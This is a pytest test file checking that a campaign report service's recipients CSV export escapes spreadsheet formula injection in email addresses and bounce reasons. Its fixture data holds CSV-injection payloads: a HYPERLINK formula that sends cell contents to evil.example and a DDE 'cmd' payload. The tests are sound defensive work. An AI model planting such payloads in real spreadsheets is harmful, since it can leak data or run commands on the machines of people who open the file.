"""The recipients CSV neutralises cells a spreadsheet would run as a formula (OWASP).

Bounce reasons come from remote mail servers and emails from imported lead lists, so
both are attacker-controlled text that ends up opened in Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import httpx
import orjson
import pytest

from services.report_sink.config import Settings
from services.report_sink.main import create_app, open_clickhouse
from services.report_sink.schema import migrate
from services.report_sink.sink import EventWriter
from shared.contracts.events import EventType
from shared.settings import CommonSettings
from tests.events import event
from tests.report_sink.helpers import T0, Tenant, make_tenant

pytestmark = [pytest.mark.postgres, pytest.mark.clickhouse]

# (email, reason) of each lead's bounce, and the cells a spreadsheet must read back.
HOSTILE = [
    ("=cmd@example.com", '=HYPERLINK("http://evil.example/?x="&A1)'),
    ("+lead@example.com", "+1+cmd|' /C calc'!A0"),
    ("-lead@example.com", "-2+3"),
    ("lead3@example.com", "@SUM(A1:A9)"),
    ("lead4@example.com", "\t=1+1"),
    ("lead5@example.com", "\r=1+1"),
    ("lead6@example.com", '550 5.1.1 "=1+1", mailbox unknown'),
]
EXPECTED = [
    ("'=cmd@example.com", '\'=HYPERLINK("http://evil.example/?x="&A1)'),
    ("'+lead@example.com", "'+1+cmd|' /C calc'!A0"),
    ("'-lead@example.com", "'-2+3"),
    ("lead3@example.com", "'@SUM(A1:A9)"),
    ("lead4@example.com", "'\t=1+1"),
    ("lead5@example.com", " =1+1"),  # line breaks in reasons become spaces (one row per line)
    ("lead6@example.com", '550 5.1.1 "=1+1", mailbox unknown'),  # not first: quoted, as is
]


@pytest.fixture
async def hostile(
    pool: asyncpg.Pool, base_settings: CommonSettings, pg_dsn: str, tmp_path: Path
) -> AsyncIterator[tuple[httpx.AsyncClient, Tenant]]:
    """The reports API on a fresh chDB folder holding one bounce per hostile (email, reason)."""
    common = base_settings.model_copy(update={"database_url": pg_dsn, "home": tmp_path})
    settings = Settings(common=common, csv_chunk_rows=2)
    writer, reader, analyst = open_clickhouse(settings)
    try:
        await migrate(writer)
        tenant = await make_tenant(pool, leads=len(HOSTILE))
        a, c, hard = tenant.account_id, tenant.campaign_id, "hard"
        events = [
            event(a, c, lead, EventType.BOUNCED, T0, email=email, bounce_type=hard, reason=reason)
            for lead, (email, reason) in zip(tenant.lead_ids, HOSTILE, strict=True)
        ]
        body = b"\n".join(orjson.dumps(e.model_dump(mode="json")) for e in events)
        await EventWriter(writer).insert(body, "hostile")
        app = create_app(settings, reader=reader, analyst=analyst, pool=pool, admin_token="t")
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            yield client, tenant
    finally:
        for ch in (analyst, reader, writer):
            ch.close()


async def test_export_recipients_csv_neutralises_formulas(
    hostile: tuple[httpx.AsyncClient, Tenant],
) -> None:
    client, tenant = hostile
    url = f"/reports/campaigns/{tenant.campaign_id}/recipients.csv"
    r = await client.get(url, headers=tenant.headers)
    assert r.status_code == 200, r.text
    rows = {row["lead_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    got = [(rows[str(lead)]["email"], rows[str(lead)]["reason"]) for lead in tenant.lead_ids]
    assert got == EXPECTED
    # every text cell is quoted, so a separator or quote inside one cannot start a new cell
    for line in r.text.splitlines()[1:]:
        lead_id, email = line.split(",", 2)[:2]
        assert lead_id.startswith('"') and email.startswith('"'), line
